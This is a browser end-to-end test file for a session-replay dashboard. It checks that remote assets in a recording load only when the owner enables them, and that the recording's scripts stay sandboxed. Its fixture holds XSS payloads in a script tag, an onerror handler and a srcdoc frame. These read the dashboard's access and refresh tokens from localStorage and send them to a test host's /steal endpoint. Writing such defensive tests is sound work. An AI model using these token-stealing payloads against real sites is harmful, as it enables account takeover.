// Remote assets in replays (issue 34, item 15) in headless Chromium against the real daemon. A recording whose
// page names an image, a stylesheet and a font on a second loopback server (the recorded site's host) is
// watched twice: with the site's choice off (the default) the dashboard's own player asks that server for
// nothing; after the owner turns it on in Edit Website, the recording plays in the daemon's player page
// (/replay-player, framed), which loads them (images and stylesheets without a Referer), while the recording's scripts and handlers
// (which would send the dashboard's tokens to that same server) still never run, and the page itself asks the
// API for nothing. Screens go to tests/screenshots/.
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, before, describe, it } from "node:test";
import { gzipSync } from "node:zlib";
import { USER_AGENT, launchBrowser, startDaemon, until } from "../tracker/harness.mjs";
import { screenshot, waitForText } from "./helpers.mjs";

const password = "correct-horse";
/** A 1x1 transparent PNG. */
const PIXEL = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=", "base64");

/**
 * The recorded site's host: an image, a stylesheet, a font, an image that is missing (its onerror is where a
 * hostile recording would run code), and /steal, which must never be asked for. Every request is logged.
 */
async function startAssetHost() {
  const requests = [];
  const server = createServer((req, res) => {
    const path = new URL(req.url, "http://x").pathname;
    requests.push({ path, url: req.url, referer: req.headers.referer ?? null });
    if (path === "/pic.png") return res.writeHead(200, { "Content-Type": "image/png" }).end(PIXEL);
    if (path === "/site.css") return res.writeHead(200, { "Content-Type": "text/css" }).end("h1 { letter-spacing: 2px; }");
    // Not a real font: the request reaching this host is what is checked.
    if (path === "/brand.woff2") return res.writeHead(200, { "Content-Type": "font/woff2" }).end("not-a-font");
    res.writeHead(404).end();
  });
  await new Promise((r) => server.listen(0, "127.0.0.1", r));
  return { url: `http://127.0.0.1:${server.address().port}`, requests, close: () => new Promise((r) => server.close(r)) };
}

/**
 * rrweb events as a visitor's browser (or anyone) may upload them: a page whose image, stylesheet and font
 * come from `host`, and whose script, onerror handler and srcdoc frame try to send the dashboard's tokens there.
 */
function recordedPage(start, host) {
  const steal = (from) =>
    `new Image().src='${host}/steal?from=${from}&t='+encodeURIComponent(localStorage.getItem('accessToken')||localStorage.getItem('refreshToken')||'')`;
  const el = (id, tagName, attributes, childNodes = []) => ({ type: 2, tagName, attributes, childNodes, id });
  const text = (id, textContent) => ({ type: 3, textContent, id });
  const fontFace = `@font-face { font-family: Brand; src: url(${host}/brand.woff2) format("woff2"); } h1 { font-family: Brand, sans-serif; }`;
  const doc = {
    type: 0,
    id: 1,
    childNodes: [
      { type: 1, name: "html", publicId: "", systemId: "", id: 2 },
      el(3, "html", {}, [
        el(4, "head", {}, [
          el(10, "link", { rel: "stylesheet", href: `${host}/site.css` }),
          el(11, "style", {}, [text(12, fontFace)]),
          el(13, "script", {}, [text(14, steal("script"))]),
        ]),
        el(5, "body", {}, [
          el(6, "h1", {}, [text(7, "REMOTE-ASSETS-PAGE")]),
          el(8, "img", { src: `${host}/pic.png`, width: "40", height: "40", id: "pic" }),
          el(9, "img", { src: `${host}/missing.png`, id: "missing", onerror: steal("onerror") }),
          el(15, "iframe", { srcdoc: `<script>${steal("srcdoc").replaceAll("localStorage", "parent.parent.localStorage")}</script>` }),
        ]),
      ]),
    ],
  };
  return [
    { type: 4, data: { href: "https://shop.example/", width: 1280, height: 720 }, timestamp: start },
    { type: 2, data: { node: doc, initialOffset: { left: 0, top: 0 } }, timestamp: start + 1 },
    { type: 3, data: { source: 1, positions: [{ x: 5, y: 5, id: 6, timeOffset: 0 }] }, timestamp: start + 3000 },
  ];
}

describe("Remote assets in replays", () => {
  let daemon, browser, host, owner, website, replayId, context, page;
  /** Every request the dashboard's tab made, with the document (frame) that made it. */
  const requests = [];

  const call = async (method, path, body) => {
    const res = await fetch(daemon.url + path, {
      method,
      headers: { ...(body ? { "Content-Type": "application/json" } : {}), Authorization: `Bearer ${owner.accessToken}` },
      body: body ? JSON.stringify(body) : undefined,
    });
    const text = await res.text();
    if (!res.ok) throw new Error(`${method} ${path}: ${res.status} ${text}`);
    return text ? JSON.parse(text) : null;
  };
  /** Where the player is: the dialog itself, or the player page framed in it once the site loads remote assets. */
  let player = () => page.getByRole("dialog");
  const frame = () => player().locator(".replayer-wrapper iframe");
  /** Opens the recording's player and waits until the recorded page is rebuilt with both images settled. */
  const watch = async () => {
    await page.goto(`/session-replays?replay=${replayId}`);
    const dialog = page.getByRole("dialog");
    await dialog.getByTestId("replay-player").waitFor();
    if ((await dialog.getByTestId("replay-player").getAttribute("data-remote-assets")) === "on") {
      player = () => page.getByRole("dialog").frameLocator('[data-testid="replay-player-frame"]').locator("body");
    }
    await player().locator(".rr-player").waitFor();
    await until("the recorded page rebuilt, its images settled", async () => {
      const state = await frame().evaluate((f) => ({
        text: f.contentDocument?.body?.innerText ?? "",
        settled: [...(f.contentDocument?.querySelectorAll("img") ?? [])].map((i) => i.complete),
      }));
      return (state.text.includes("REMOTE-ASSETS-PAGE") && state.settled.length === 2 && state.settled.every(Boolean)) || [state];
    });
    return dialog;
  };
  const close = async () => {
    await page.keyboard.press("Escape");
    await page.getByRole("dialog").waitFor({ state: "detached" });
  };

  before(async () => {
    daemon = await startDaemon();
    browser = await launchBrowser();
    host = await startAssetHost();
    const register = await fetch(`${daemon.url}/api/register`, {
      method: "POST",
      headers: { "Content-Type": "application/json" },
      body: JSON.stringify({ email: `remote-assets-${Date.now()}@example.com`, password }),
    });
    owner = await register.json();
    website = await call("POST", "/api/websites", { name: "Remote Shop", domain: "https://remote-shop.example", trackingLevel: "enhanced" });
    const session = `remote-${Date.now()}`;
    const upload = await fetch(`${daemon.url}/api/replay?tracking_key=${website.trackingKey}&session_id=${session}&seq=0`, {
      method: "POST",
      body: gzipSync(JSON.stringify(recordedPage(Date.now() - 10_000, host.url))),
      headers: { "User-Agent": USER_AGENT },
    });
    assert.equal(upload.status, 202, await upload.text());
    replayId = await until("the recording stored", async () => {
      const list = await call("GET", `/api/websites/${website.id}/session-replays?limit=100`);
      return list.find((r) => r.sessionId === session)?.id ?? [list.length];
    });
    context = await browser.newContext({ viewport: { width: 1400, height: 900 }, baseURL: daemon.url });
    page = await context.newPage();
    page.on("request", (r) => requests.push({ url: r.url(), frame: r.frame()?.url() ?? "" }));
    page.on("pageerror", (e) => console.error("page error:", e));
    if (process.env.DEBUG_REPLAY) page.on("console", (m) => console.log("console:", m.type(), m.text()));
    await page.goto("/auth");
    await page.evaluate(({ accessToken, refreshToken }) => {
      localStorage.setItem("accessToken", accessToken);
      localStorage.setItem("refreshToken", refreshToken);
    }, owner);
  });

  after(async () => {
    await browser?.close();
    await host?.close();
    await daemon?.stop();
  });

  it("off by default: the player asks the recorded site's host for nothing, and says why", async () => {
    assert.equal((await call("GET", `/api/privacy/settings?website_id=${website.id}`)).replayRemoteAssets, false);
    const dialog = await watch();
    assert.equal(await dialog.getByTestId("replay-player").getAttribute("data-remote-assets"), "off");
    assert.equal(await frame().getAttribute("sandbox"), "allow-same-origin", "no allow-scripts on the replay frame");
    await waitForText(dialog.getByTestId("replay-remote-assets-note"), "tells those servers that someone is watching");
    assert.equal(await frame().evaluate((f) => f.contentDocument.getElementById("pic").naturalWidth), 0, "the image was not loaded");
    assert.deepEqual(host.requests, [], "no request reached the recorded site's host");
    await screenshot(page, "replay-remote-assets-01-off");
    await close();
  });

  it("the owner turns it on in Edit Website, with the reason beside the checkbox", async () => {
    await page.goto("/basic-dashboard");
    await page.getByRole("button", { name: "Actions for Remote Shop" }).click();
    await page.getByRole("menuitem", { name: "Edit" }).click();
    const dialog = page.getByRole("dialog");
    const box = dialog.getByLabel("Load remote images and fonts in replays");
    await until("the site's settings read", async () => (await box.isEnabled()) || ["disabled"]);
    assert.equal(await box.isChecked(), false);
    await waitForText(dialog, "tells them (and whoever reads their logs) your IP address");
    await box.check();
    await screenshot(page, "replay-remote-assets-02-edit");
    await dialog.getByRole("button", { name: "Save Changes" }).click();
    await dialog.waitFor({ state: "detached" });
    assert.equal((await call("GET", `/api/privacy/settings?website_id=${website.id}`)).replayRemoteAssets, true);
    assert.deepEqual(host.requests, [], "changing the setting loads nothing");
  });

  it("on: the image, stylesheet and font load from the host (images and stylesheets without a Referer); the recording's scripts still never run", async () => {
    const dialog = await watch();
    assert.equal(await dialog.getByTestId("replay-player").getAttribute("data-remote-assets"), "on");
    assert.equal(await frame().getAttribute("sandbox"), "allow-same-origin", "still no allow-scripts on the replay frame");
    assert.equal(await dialog.getByTestId("replay-remote-assets-note").count(), 0);
    assert.equal(await dialog.getByTestId("replay-player-frame").getAttribute("src"), "/replay-player");
    await until("the image, stylesheet and font asked for", () => {
      const paths = new Set(host.requests.map((r) => r.path));
      return ["/pic.png", "/site.css", "/brand.woff2", "/missing.png"].every((p) => paths.has(p)) || [...paths];
    });
    assert.ok((await frame().evaluate((f) => f.contentDocument.getElementById("pic").naturalWidth)) > 0, "the image shows");
    // Images and stylesheets name no referrer. (Fonts are fetched with CORS, which names the requesting origin
    // in any case: API.md says so.)
    assert.deepEqual(
      host.requests.filter((r) => r.path !== "/brand.woff2" && r.referer !== null),
      [],
      "images and stylesheets do not tell the recorded site's host the dashboard's address",
    );
    // The missing image has failed (its onerror would have run by now), the script and the srcdoc frame have
    // been inserted: none of them ran, so nothing could read the dashboard's tokens and send them.
    await until("the srcdoc frame", () => frame().evaluate((f) => f.contentDocument.querySelector("iframe")?.contentDocument?.readyState === "complete"));
    assert.deepEqual(host.requests.filter((r) => r.path === "/steal"), [], "no script in the recording ran");
    const leaked = host.requests.filter((r) => r.url.includes(owner.accessToken) || r.url.includes(owner.refreshToken));
    assert.deepEqual(leaked, [], "the dashboard's tokens never reached the recorded site's host");
    // The player page is handed the recording; it fetches nothing of the API (its policy lets it connect nowhere).
    const fromPlayer = requests.filter((r) => r.frame.includes("/replay-player") && r.url.includes("/api/"));
    assert.deepEqual(fromPlayer, [], "the player page asked the API for nothing");
    await screenshot(page, "replay-remote-assets-03-on");
    // Escape pressed inside the framed player still closes the dialog.
    await player().locator("#player").focus();
    assert.equal(await page.evaluate(() => document.activeElement?.tagName), "IFRAME", "the keyboard is in the player page");
    await close();
  });
});
